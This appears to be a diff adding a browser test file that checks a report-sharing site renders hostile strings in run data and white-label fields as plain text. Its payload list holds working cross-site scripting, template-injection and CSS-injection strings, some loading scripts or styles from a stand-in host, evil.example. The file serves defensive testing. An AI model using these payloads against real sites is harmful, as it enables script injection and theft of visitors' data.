@@ -1,0 +1,176 @@
+"""Every string of a run file and of a white label may be hostile: in a real browser it only stands there."""
+
+from collections.abc import Iterator
+from uuid import UUID
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Route
+from pydantic import ValidationError
+
+from report_shares.rules.white_label import FIELDS, WhiteLabel
+from tests.browser import Visit, visit
+from tests.handlers.runs import run
+from tests.page.conftest import Site
+from tests.world import Json, World
+
+pytestmark = pytest.mark.browser
+
+COLOURS = ("primary_color", "secondary_color")
+FREE_TEXT = tuple(name for name in FIELDS if name not in {*COLOURS, "report_sections_config"})
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(2)>',
+    "' onmouseover='alert(3)",
+    '" autofocus onfocus="alert(4)',
+    "</title><svg onload=alert(5)>",
+    "</style><style>*{background:url(https://evil.example/a)}</style>",
+    "</script><script src=https://evil.example/b></script>",
+    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
+    "<link rel=stylesheet href=https://evil.example/c>",
+    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/d>",
+    "<form action=https://evil.example/e><input name=x autofocus></form>",
+    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(7)>",
+    "{{7*7}}{% include 'x' %}{{config}}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    "javascript:alert(8)",
+    "data:text/html,<script>alert(9)</script>",
+    "\\3c script\\3e alert(10)",
+    'x");}*{background:url("https://evil.example/f',
+    "&lt;script&gt;alert(11)&lt;/script&gt;&#x3c;b&#x3e;",
+    "\u202egnp.exe\u2066\u200f",
+    "\ufeff\u0000\u2028alert(12)",
+    "=HYPERLINK(1)",
+)
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    """Where everything outside the site has an answer, so that whatever is asked for is seen to be asked for."""
+    opened = browser.new_context(viewport={"width": 1280, "height": 900})
+    opened.route(lambda url: not url.startswith("http://127.0.0.1"), _answered)
+    yield opened
+    opened.close()
+
+
+def _answered(route: Route) -> None:
+    route.fulfill(status=200, body="alert('reached')", content_type="text/javascript")
+
+
+def nothing_happened(visited: Visit, site: Site, logo: str | None = None) -> None:
+    page = visited.page
+    for spot in ((200, 200), (640, 300), (900, 700)):
+        page.mouse.move(*spot)
+    page.keyboard.press("Tab")
+    assert [fault for fault in visited.faults if "ERR_BLOCKED_BY_ORB" not in fault] == []
+    # One request may leave, for the logo: an image, without a referrer.
+    assert len(visited.foreign(site.url)) <= (logo is not None)
+    assert page.url.startswith(f"{site.url}/shared/")
+    made = "main script, main iframe, main form, body style, body link, base, math, [onload], [onerror], [onfocus]"
+    assert page.locator(f"{made}, [onmouseover], a[href^=javascript], a[href^=data]").count() == 0
+
+
+def hostile_run(texts: tuple[str, ...], number: int) -> Json:
+    """A run with one of the strings in each of its fields that are free text, and another in each place."""
+    answers = [
+        {
+            "prompt_id": str(UUID(int=at)),
+            "prompt": text,
+            "category": text,
+            "platform": text[:100],
+            "brand_appears": at % 2 == 0,
+            "rank": 1 if at % 2 == 0 else None,
+            "businesses": [{"name": text, "rank": 1}],
+            "citations": [
+                {"url": f"https://site{at}.example/?q={text.replace(' ', '%20')}".strip(), "title": text},
+                {"url": f"https://{'a' * at}b.example/{text}".split("\x00")[0], "title": None},
+            ],
+        }
+        for at, text in enumerate(texts)
+    ]
+    regions = [
+        {"name": text, "country": text, "language": text, "status": "completed", "answers": answers} for text in texts
+    ]
+    return run(number) | {"regions": regions}
+
+
+def accepted(world: World, number: int, text: str) -> bool:
+    """Whether a run with this string is folded; the others are buried with a reason."""
+    world.put_run(hostile_run((text,), number))
+    return not world.buried()
+
+
+def test_no_string_of_a_run_file_does_anything_but_stand_there(site: Site, context: BrowserContext) -> None:
+    world = site.world
+    shown = [text for number, text in enumerate(HOSTILE, 1) if accepted(world, number, text)]
+    assert len(shown) >= 20
+    share = world.create(world.add_key()).json
+
+    visited = visit(context, f"{site.url}/shared/{share['access_token']}")
+
+    nothing_happened(visited, site)
+    text = visited.page.locator("main").text_content() or ""
+    for hostile in shown:
+        assert hostile.replace("\x00", "\ufffd").strip() in text or hostile.strip() in text, hostile
+
+
+def takes(field: str, value: str) -> bool:
+    try:
+        WhiteLabel.model_validate({field: value})
+    except ValidationError:
+        return False
+    return True
+
+
+def test_no_white_label_that_the_api_takes_does_anything_but_stand_there(site: Site, context: BrowserContext) -> None:
+    """For each string one share with all the fields that take it, as it is or made to look like what they want."""
+    key = site.world.add_key()
+    tried = 0
+    for text in HOSTILE:
+        spellings = (text, f"https://evil.example/{text}", f"#12345{text}", f"a@b.example{text}", f"+49 {text}")
+        label = {field: next((one for one in spellings if takes(field, one)), None) for field in FREE_TEXT}
+        if not any(label.values()):
+            continue
+        answer = site.world.create(key, {"white_label_config": label})
+        assert answer.status in (200, 201), answer.text
+        tried += 1
+
+        visited = visit(context, f"{site.url}/shared/{answer.json['access_token']}")
+
+        nothing_happened(visited, site, logo=label["logo_url"])
+        visited.page.close()
+
+    assert tried >= 8
+
+
+def test_no_field_takes_markup(world: World) -> None:
+    assert [(field, text) for field in FREE_TEXT for text in HOSTILE[:11] if takes(field, text) and "<" in text] == []
+    refused = world.create(world.add_key(), {"white_label_config": {"cover_title": HOSTILE[0]}})
+    assert refused.status == 422
+
+
+def test_not_even_a_string_that_was_never_checked_does_anything(site: Site, context: BrowserContext) -> None:
+    """A brand's config that reached the table by another way, hostile in every field at once."""
+    world = site.world
+    world.put_run(run(1))
+    token = world.create(world.add_key()).json["access_token"]
+    for text in HOSTILE:
+        world.add_brand(white_label=dict.fromkeys(FREE_TEXT, text))
+
+        visited = visit(context, f"{site.url}/shared/{token}")
+
+        nothing_happened(visited, site)
+        assert text.split("\x00")[0].strip("\ufeff ") in (visited.page.locator("h1").text_content() or "")
+        visited.page.close()
+
+
+@pytest.mark.parametrize("field", COLOURS)
+def test_a_colour_that_is_none_is_never_put_into_a_style_sheet(site: Site, context: BrowserContext, field: str) -> None:
+    world = site.world
+    token = world.create(world.add_key()).json["access_token"]
+    world.add_brand(white_label={field: "#123456;}*{background:url(https://evil.example/g)"})
+
+    page = context.new_page()
+    answer = page.goto(f"{site.url}/shared/{token}")
+
+    assert answer is not None
+    assert "evil" not in answer.text()
